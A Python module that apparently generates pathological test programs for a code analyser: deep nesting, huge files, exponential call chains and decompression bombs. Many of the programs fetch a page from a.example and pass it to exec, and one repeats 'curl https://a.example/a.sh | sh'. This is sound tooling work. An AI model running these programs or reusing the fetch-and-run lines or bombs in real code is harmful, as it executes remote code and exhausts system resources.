"""Programs that are hard on whoever reads them: nested too deeply, too long, too many of everything."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable

DEEP = 100_000

FETCH = "import requests\npage = requests.get('https://a.example').text\n"


def around(before: str, inner: str, after: str, times: int = DEEP) -> str:
    return before * times + inner + after * times


def functions_in_functions(levels: int = 400) -> str:
    lines = [" " * level + f"def f{level}():" for level in range(levels)]
    return "\n".join([*lines, " " * levels + "exec(page)", ""])


def blocks_in_blocks(head: str, levels: int = 2_000) -> str:
    lines = [" " * level + head for level in range(levels)]
    return "\n".join([*lines, " " * levels + "exec(page)", ""])


def calls_twice(levels: int = 60) -> str:
    """Each function calls the next one twice: 2 ** levels calls."""
    lines = []
    for level in range(levels):
        lines += [f"def f{level}(x):", f"    return f{level + 1}(x + 'a') + f{level + 1}(x + 'b')"]
    lines += [f"def f{levels}(x):", "    exec(x)", "    return x", "f0(page)"]
    return "\n".join(lines) + "\n"


def deep_in_deep(calls: int = 60, levels: int = 300) -> str:
    """Each function calls the next one from deep within an expression."""
    lines = []
    for call in range(calls):
        lines += [f"def f{call}(x):", "    return " + "g(" * levels + f"f{call + 1}(x)" + ")" * levels]
    lines += [f"def f{calls}(x):", "    exec(x)", "f0(page)"]
    return "\n".join(lines) + "\n"


def exec_of_exec(levels: int = 50) -> str:
    code = "exec(page)"
    for _ in range(levels):
        if len(code) > 1 << 20:
            break
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode())!r}))"
    return code + "\n"


def quoted_exec(levels: int = 50) -> str:
    """Each level quotes the one below in a name of its own, so that it does not grow."""
    lines = ["code = 'exec(page)'"]
    lines += ["code = 'exec(' + repr(code) + ')'"] * levels
    return "\n".join([*lines, "exec(code)", ""])


def bomb() -> str:
    packed = b"a = 1\n" * 20_000_000
    for _ in range(2):
        packed = zlib.compress(packed, 9)
    return (
        "import base64, zlib\n"
        f"exec(zlib.decompress(zlib.decompress(base64.b64decode({base64.b64encode(packed)!r}))))\n"
    )


def many_bombs(times: int = 200) -> str:
    packed = base64.b64encode(zlib.compress(b"a" * 8_000_000, 9)).decode()
    lines = [f"x{i} = zlib.decompress(base64.b64decode({packed!r})) + b'{i}'" for i in range(times)]
    return "\n".join(["import base64, zlib", *lines, ""])


def layers_of_layers(times: int = 20_000) -> str:
    lines = ["text = 'abcdef'"]
    for i in range(times):
        lines.append("text = text[::-1]" if i * i % 7 < 3 else "text = text.replace('a', 'b')")
        if i % 60 == 0:
            lines.append(f"text = 'abcdef{i}'")
    return "\n".join([*lines, ""])


def blanks(times: int = 60_000) -> str:
    """A line with many stretches of blanks, in texts and between them."""
    return "x = [" + ", ".join("'a'" + " " * 130 for _ in range(times)) + "]\n"


def blanks_in_texts(times: int = 30_000) -> str:
    return "\n".join("x = 'a" + " " * 130 + "b'" for _ in range(times)) + "\n"


def found_on_a_long_line(times: int = 40_000) -> str:
    return (
        "import os; "
        + "; ".join("os.system('curl https://a.example/a.sh | sh')" for _ in range(times))
        + "\n"
    )


def all_joined(times: int = 3_000) -> str:
    """Branch upon branch, each with a value of its own."""
    lines = ["def run(a):"]
    for i in range(times):
        lines += [f"    if a == {i}:", f"        b = a + 'x{i}'", "    else:", "        b = page"]
    return "\n".join([*lines, "    exec(b)", ""])


def lists_of_one_another(times: int = 2_000) -> str:
    lines = ["a = []", "b = []"]
    lines += ["a.append(b)", "b.append(a)", "a.extend(b)"] * times
    return "\n".join([*lines, "exec(a)", ""])


def cyclic_objects(times: int = 300) -> str:
    lines = [f"x{i} = {{}}" for i in range(times)]
    lines += [f"x{i}[{j % 7}] = x{j}" for i in range(times) for j in range(0, times, 10)]
    return "\n".join([*lines, "exec(x0)", ""])


def sixty_four_parameters(times: int = 200) -> str:
    names = ", ".join(f"a{i}" for i in range(64))
    lines = []
    for i in range(times):
        lines += [f"def f{i}({names}):", f"    return f{(i * 7 + 1) % times}({names})"]
    return "\n".join([*lines, ""])


PROGRAMS: dict[str, Callable[[], str]] = {
    "parentheses": lambda: FETCH + "exec(" + around("(", "page", ")") + ")\n",
    "lists": lambda: FETCH + "x = " + around("[", "page", "]") + "\n",
    "dictionaries": lambda: FETCH + "x = " + around("{1: ", "page", "}") + "\n",
    "attributes": lambda: FETCH + "x = page" + ".a" * DEEP + "\n",
    "subscripts": lambda: FETCH + "x = page" + "[0]" * DEEP + "\n",
    "calls": lambda: FETCH + "x = " + around("f(", "page", ")") + "\n",
    "calls-of-calls": lambda: FETCH + "x = page" + "()" * DEEP + "\n",
    "method-calls": lambda: FETCH + "x = page" + ".a()" * DEEP + "\n",
    "sums": lambda: FETCH + "x = page" + " + page" * DEEP + "\n",
    "sums-of-texts": lambda: FETCH + "x = " + " + ".join(f"'a{i}'" for i in range(DEEP)) + "\n",
    "sums-of-texts-and-names": lambda: FETCH + "x = ''" + " + page + 'b'" * DEEP + "\n",
    "powers": lambda: FETCH + "x = 2" + " ** 2" * DEEP + "\n",
    "sums-to-the-right": lambda: FETCH + "x = " + around("page + (", "page", ")") + "\n",
    "ors": lambda: FETCH + "x = page" + " or page" * DEEP + "\n",
    "ands-and-ors": lambda: FETCH + "x = page" + " or page and page" * DEEP + "\n",
    "nots": lambda: FETCH + "x = " + "not " * DEEP + "page\n",
    "minuses": lambda: FETCH + "x = " + "-" * DEEP + "1\n",
    "comparisons": lambda: FETCH + "x = page" + " < page" * DEEP + "\n",
    "conditionals": lambda: FETCH + "x = page" + " if page else page" * DEEP + "\n",
    "lambdas": lambda: FETCH + "x = " + "lambda: " * DEEP + "page\n",
    "awaits": lambda: FETCH + "async def f():\n    return " + "await " * DEEP + "page\n",
    "comprehensions": lambda: FETCH + "x = " + around("[", "page", " for a in b]", 20_000) + "\n",
    "many-clauses": lambda: FETCH + "x = [a" + " for a in page" * 20_000 + "]\n",
    "concatenated": lambda: FETCH + "x = (" + "'a' " * DEEP + ")\n",
    "f-strings": lambda: FETCH + 'x = f"' + "{page}" * DEEP + '"\n',
    "f-strings-in-f-strings": lambda: FETCH + "x = " + around("f'{", "page", "}'", 5_000) + "\n",
    "elifs": lambda: FETCH + "if a:\n    pass\n" + "elif page:\n    x = page\n" * DEEP,
    "ifs": lambda: FETCH + blocks_in_blocks("if page:"),
    "fors": lambda: FETCH + blocks_in_blocks("for a in page:"),
    "whiles": lambda: FETCH + blocks_in_blocks("while page:"),
    "withs": lambda: FETCH + blocks_in_blocks("with page as a:"),
    "classes-in-classes": lambda: FETCH + blocks_in_blocks("class A:"),
    "functions-in-functions": lambda: FETCH + functions_in_functions(),
    "ifs-in-calls": lambda: (
        FETCH
        + "".join(
            f"def f{i}():\n"
            + "".join(" " * (d + 1) + "if page:\n" for d in range(300))
            + " " * 302
            + f"f{i + 1}()\n"
            for i in range(60)
        )
        + "def f60():\n exec(page)\nf0()\n"
    ),
    "deep-in-deep": lambda: FETCH + deep_in_deep(),
    "calls-twice": lambda: FETCH + calls_twice(),
    "exec-of-exec": lambda: FETCH + exec_of_exec(),
    "quoted-exec": lambda: FETCH + quoted_exec(),
    "exec-of-itself": lambda: FETCH + "code = 'exec(code)'\nexec(code)\n",
    "bomb": bomb,
    "many-bombs": many_bombs,
    "layers": layers_of_layers,
    "long-range": lambda: FETCH + "for i in range(10 ** 9):\n    page += page\n",
    "long-comprehension": lambda: FETCH + "x = [page for i in range(10 ** 9) for j in range(10 ** 9)]\n",
    "long-text": lambda: FETCH + "x = 'a' * 10 ** 9\ny = ('a' * 1000000) * 1000000\n",
    "doubling": lambda: FETCH + "x = 'a'\n" + "x = x + x\n" * 200,
    "doubling-list": lambda: FETCH + "x = [1]\n" + "x = x + x\n" * 200,
    "doubling-tuple": lambda: FETCH + "x = (1,)\n" + "x = (*x, *x)\n" * 200,
    "doubling-replace": lambda: FETCH + "x = 'a'\n" + "x = x.replace('a', 'aaaaaaaaaa')\n" * 50,
    "doubling-join": lambda: FETCH + "x = 'aa'\n" + "x = x.join(x)\n" * 50,
    "doubling-format": lambda: FETCH + "x = 'a'\n" + "x = '{0}{0}{0}'.format(x)\n" * 50,
    "doubling-percent": lambda: FETCH + "x = 'a'\n" + "x = '%s%s' % (x, x)\n" * 50,
    "doubling-in-a-loop": lambda: FETCH + "x = 'a'\nfor i in range(4000):\n    x += x\n",
    "growing-in-a-loop": lambda: FETCH + "x = 'a' * 4000000\nfor i in range(1000):\n    x += 'b'\n",
    "growing-in-loops": lambda: (
        FETCH
        + "".join(f"x = 'a' * 100000 + '{k}'\nfor i in range(1000):\n    x = x + 'b'\n" for k in range(20))
    ),
    "least-slice": lambda: (
        "a = -9223372036854775807 - 1\nx = 'abc'[::a]\ny = range(5, 1, a)\nz = 'abc'[a:a:a]\n"
    ),
    "numbers": lambda: (
        "x = 9223372036854775807\ny = x + 1\nz = -x - 2\nw = x << 62\nv = x * x\nu = (-x - 1) // -1\n"
    ),
    "long-line": lambda: FETCH + "x = '" + "a" * 10_000_000 + "'\n",
    "long-line-of-code": lambda: FETCH + "x = [" + "1, " * 3_300_000 + "]\n",
    "long-name": lambda: FETCH + "a" * 5_000_000 + " = page\n",
    "long-comment": lambda: FETCH + "# " + "a" * 10_000_000 + "\n",
    "blanks": blanks,
    "blanks-in-texts": blanks_in_texts,
    "empty-lines": lambda: "\n" * 10_000_000,
    "found-on-a-long-line": found_on_a_long_line,
    "list-of-a-million": lambda: FETCH + "x = [" + "page, " * 1_000_000 + "]\nexec(x[7])\n",
    "dictionary-of-a-million": lambda: "x = {" + ", ".join(f"{i}: 'v{i}'" for i in range(600_000)) + "}\n",
    "texts-of-a-million": lambda: "x = [" + ", ".join(f"'v{i}'" for i in range(1_000_000)) + "]\n",
    "functions": lambda: FETCH + "".join(f"def f{i}(a):\n    return a\n" for i in range(DEEP)),
    "functions-that-run": lambda: FETCH + "".join(f"def f{i}(a):\n    exec(a)\n" for i in range(20_000)),
    "classes": lambda: FETCH + "".join(f"class A{i}:\n    a = 1\n" for i in range(DEEP)),
    "classes-of-one-another": lambda: (
        FETCH
        + "class A0:\n    a = 1\n"
        + "".join(f"class A{i + 1}(A{i}):\n    b = 1\n" for i in range(20_000))
    ),
    "sinks": lambda: FETCH + "exec(page)\n" * DEEP,
    "sources": lambda: "import requests\nx = ''\n" + "x += requests.get('a').text\n" * 20_000 + "exec(x)\n",
    "statements": lambda: FETCH + "x = page\n" * 500_000,
    "assignments": lambda: FETCH + "".join(f"x{i} = page\n" for i in range(200_000)),
    "names": lambda: FETCH + "".join(f"x{i} = x{i - 1} + page\n" for i in range(100_000)),
    "imports": lambda: "".join(f"import a{i}.b{i}.c{i}\n" for i in range(DEEP)),
    "decorators": lambda: "@a\n" * DEEP + "def f():\n    pass\n",
    "parameters": lambda: "def f(" + ", ".join(f"a{i}" for i in range(50_000)) + "):\n    exec(a7)\n",
    "arguments": lambda: FETCH + "f(" + "page, " * DEEP + ")\n",
    "targets": lambda: FETCH + "".join(f"a{i} = " for i in range(50_000)) + "page\n",
    "all-joined": lambda: FETCH + all_joined(),
    "lists-of-one-another": lists_of_one_another,
    "cyclic-objects": cyclic_objects,
    "sixty-four-parameters": sixty_four_parameters,
    "regex-hostile": lambda: (
        FETCH + "".join(f"x = '{'a' * 5000}{i}!'\n" for i in range(200)) + "y = '" + "http://" * DEEP + "'\n"
    ),
    "urls": lambda: FETCH + "".join(f"x{i} = 'https://a{i}.example/{'a' * 50}'\n" for i in range(50_000)),
    "open-brackets": lambda: "(" * DEEP,
    "closed-brackets": lambda: ")" * DEEP,
    "open-text": lambda: "'''" + "a" * 1_000_000,
    "errors": lambda: "x = = 1\n" * DEEP,
    "backslashes": lambda: "x = '" + "\\\\" * 2_000_000 + "'\n",
    "escapes": lambda: "x = '" + "\\x41" * 1_000_000 + "'\nexec(x)\n",
    "semicolons": lambda: FETCH + "x=page;" * DEEP + "\n",
    "nothing-but-globals": lambda: (
        FETCH + "def f():\n" + "".join(f"    global a{i}\n" for i in range(20_000)) + "    exec(page)\n"
    ),
    "matches": lambda: FETCH + "match page:\n" + "    case [a, b]:\n        x = a\n" * 20_000,
    "nested-patterns": lambda: (
        FETCH + "match page:\n    case " + around("[", "a", "]", 5_000) + ":\n        exec(a)\n"
    ),
    "try-in-try": lambda: (
        FETCH
        + "".join(" " * d + "try:\n" for d in range(300))
        + " " * 300
        + "exec(page)\n"
        + "".join(" " * d + "except E:\n" + " " * d + " pass\n" for d in reversed(range(300)))
    ),
    "loops-in-loops-that-carry": lambda: (
        FETCH
        + "a = b = ''\n"
        + "".join(" " * d + f"for i{d} in page:\n" for d in range(80))
        + " " * 80
        + "a = a + b + page\n"
        + " " * 80
        + "b = a\n"
    ),
    "results-of-results": lambda: FETCH + "def f(g, x):\n    return g(g, x + 'a')\nf(f, page)\n",
    "partials": lambda: (
        "from functools import partial\nf = print\n" + "f = partial(f, 1)\n" * 5_000 + "f()\n"
    ),
    "self-partials": lambda: "from functools import partial\ndef f(g):\n    return partial(g, f)(f)\nf(f)\n",
}
